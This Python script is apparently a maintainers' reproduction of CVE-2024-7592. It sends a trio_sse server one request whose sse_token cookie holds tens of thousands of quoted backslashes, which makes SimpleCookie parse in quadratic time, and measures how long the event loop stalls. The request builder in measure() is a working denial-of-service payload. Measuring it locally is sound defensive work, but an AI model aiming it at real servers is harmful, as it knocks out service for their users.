"""How long one hostile ``sse_token`` cookie stalls a server (issue 11, item 2; CVE-2024-7592).

Runnable against any trio_sse server with auth on:

    python scripts/cookie_stall.py http://127.0.0.1:8000 --size 60000

While a prober sends ``GET /sse/health`` on a keep-alive connection every few
milliseconds, one request arrives whose ``Cookie`` is ``sse_token="\\\\…\\\\"`` of
``--size`` bytes (backslashes, quoted: the input ``http.cookies.SimpleCookie`` parses in
quadratic time on CPython 3.11.7). A server's event loop serves every stream, so the
longest health round trip while that request is being answered is how long the loop
was blocked. It prints one JSON line: the hostile request's status and time to answer,
the prober's worst round trip during it and its median before it. Only the given URL is
contacted; use 127.0.0.1.
"""

from __future__ import annotations

import argparse
import json
import statistics
import time
from urllib.parse import urlsplit

import trio

PROBE_EVERY = 0.002


async def _read_answer(stream: trio.SocketStream, buffer: bytearray) -> tuple[int, bytes]:
    """One HTTP/1.1 answer with a Content-Length (or none, up to the close): status, body."""
    while b"\r\n\r\n" not in buffer:
        chunk = await stream.receive_some(65536)
        if not chunk:
            raise ConnectionError("closed before an answer")
        buffer += chunk
    head, _, rest = bytes(buffer).partition(b"\r\n\r\n")
    status = int(head.split(b" ", 2)[1])
    length, chunked = None, False
    for line in head.split(b"\r\n")[1:]:
        name, _, value = line.partition(b":")
        if name.strip().lower() == b"content-length":
            length = int(value)
        elif name.strip().lower() == b"transfer-encoding":
            chunked = b"chunked" in value.lower()
    body = bytearray(rest)
    if chunked:  # a refused stream (the lean handler answers chunked): read up to the last chunk
        while not body.endswith(b"0\r\n\r\n"):
            chunk = await stream.receive_some(65536)
            if not chunk:
                break
            body += chunk
        return status, _dechunk(bytes(body))
    while length is None or len(body) < length:
        chunk = await stream.receive_some(65536)
        if not chunk:
            break
        body += chunk
    end = len(body) if length is None else length
    buffer[:] = body[end:]
    return status, bytes(body[:end])


def _dechunk(data: bytes) -> bytes:
    out = b""
    while data:
        size_line, _, data = data.partition(b"\r\n")
        size = int(size_line.split(b";")[0] or b"0", 16)
        if size == 0:
            break
        out, data = out + data[:size], data[size + 2 :]
    return out


async def measure(url: str, size: int, settle: float) -> dict[str, object]:
    parts = urlsplit(url)
    host, port = parts.hostname or "127.0.0.1", parts.port or 80
    probe_request = f"GET /sse/health HTTP/1.1\r\nhost: {host}\r\n\r\n".encode()
    quoted = (size - len('sse_token=""')) // 2 * 2  # an even run: every backslash escapes the next
    hostile = (
        f"GET /sse/events HTTP/1.1\r\nhost: {host}\r\nconnection: close\r\n".encode()
        + b'cookie: sse_token="'
        + b"\\" * quoted
        + b'"\r\n\r\n'
    )
    samples: list[tuple[float, float]] = []  # (sent at, round trip)
    result: dict[str, object] = {"url": url, "cookie_bytes": len('sse_token=""') + quoted}
    done = trio.Event()

    async def probe() -> None:
        stream = await trio.open_tcp_stream(host, port)
        buffer = bytearray()
        async with stream:
            while not done.is_set():
                sent = time.perf_counter()
                await stream.send_all(probe_request)
                await _read_answer(stream, buffer)
                samples.append((sent, time.perf_counter() - sent))
                await trio.sleep(PROBE_EVERY)

    async with trio.open_nursery() as nursery:
        nursery.start_soon(probe)
        await trio.sleep(settle)  # a baseline of round trips before the hostile request
        stream = await trio.open_tcp_stream(host, port)
        async with stream:
            started = time.perf_counter()
            await stream.send_all(hostile)
            status, body = await _read_answer(stream, bytearray())
            answered = time.perf_counter()
        await trio.sleep(settle)
        done.set()
    before = [rtt for sent, rtt in samples if sent < started]
    # Every probe that was in flight at any moment of the hostile request's life.
    during = [rtt for sent, rtt in samples if sent <= answered and sent + rtt >= started]
    result.update(
        status=status,
        error=json.loads(body).get("error") if body.startswith(b"{") else None,
        time_to_answer_ms=round((answered - started) * 1000, 1),
        probe_worst_during_ms=round(max(during) * 1000, 1) if during else None,
        probe_median_before_ms=round(statistics.median(before) * 1000, 2) if before else None,
        probes=len(samples),
    )
    return result


def main() -> None:
    parser = argparse.ArgumentParser(description=__doc__.split("\n\n")[0])
    parser.add_argument("url", help="base URL of the server, e.g. http://127.0.0.1:8000")
    parser.add_argument("--size", type=int, default=60_000, help="bytes of the Cookie header value")
    parser.add_argument("--settle", type=float, default=0.5, help="seconds of probing before and after")
    args = parser.parse_args()
    print(json.dumps(trio.run(measure, args.url, args.size, args.settle)))


if __name__ == "__main__":
    main()
